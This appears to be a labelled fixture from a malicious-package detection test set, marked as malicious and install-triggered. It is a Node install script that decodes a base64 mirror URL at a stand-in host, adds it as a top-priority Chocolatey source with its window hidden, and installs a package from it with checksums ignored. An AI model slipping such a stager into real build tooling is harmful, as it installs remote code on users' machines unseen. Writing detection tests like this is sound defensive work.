// source: blind set 50's Windows build-tools bootstrap (chocolatey-source-stager): a feed decoded from base64 is added
// as a Chocolatey source, and a helper package installed from it with checksums ignored.
// when: install
// expect: malicious
const { execFile } = require('child_process');
const MIRROR = Buffer.from('aHR0cHM6Ly9jaG9jby5taXJyb3IuZXhhbXBsZS9hcGkvdjIv', 'base64').toString();
function choco(args) {
  return new Promise((resolve) => execFile('choco.exe', args.concat(['-y', '--no-progress']), { windowsHide: true }, () => resolve()));
}
(async () => {
  await choco(['source', 'add', '--name=nodebuild', `--source=${MIRROR}`, '--priority=1']);
  await choco(['install', 'nodebuild-helper', '--source=nodebuild', '--ignore-checksums']);
})();
